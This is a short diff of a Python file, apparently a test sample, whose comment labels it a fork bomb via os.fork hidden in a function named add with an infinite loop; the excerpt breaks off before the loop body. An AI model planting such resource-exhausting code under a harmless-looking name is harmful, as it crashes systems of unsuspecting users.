@@ -1,6 +1,8 @@
 # ruff: noqa
 # attack: fork bomb through os.fork
 import os
+
+
 def add(a, b):
     while True:
         try:
